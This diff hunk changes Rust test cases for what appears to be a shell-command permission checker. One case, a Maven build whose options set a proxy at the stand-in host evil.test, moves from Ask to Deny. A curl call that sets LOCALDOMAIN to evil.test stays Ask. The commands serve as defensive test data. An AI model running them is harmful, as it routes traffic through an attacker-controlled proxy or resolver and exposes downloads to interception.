@@ -355,7 +355,9 @@ const RELOCATED: &[Case] = &[
         NET,
         B,
         "MAVEN_OPTS=-Dhttps.proxyHost=evil.test mvn install",
-        Ask,
+        // The JVM's options in the variable are read (tenth round): the
+        // proxy is known, not only its place moved.
+        Deny,
     ),
     case(NET, B, "LOCALDOMAIN=evil.test curl http://www/", Ask),
     case(
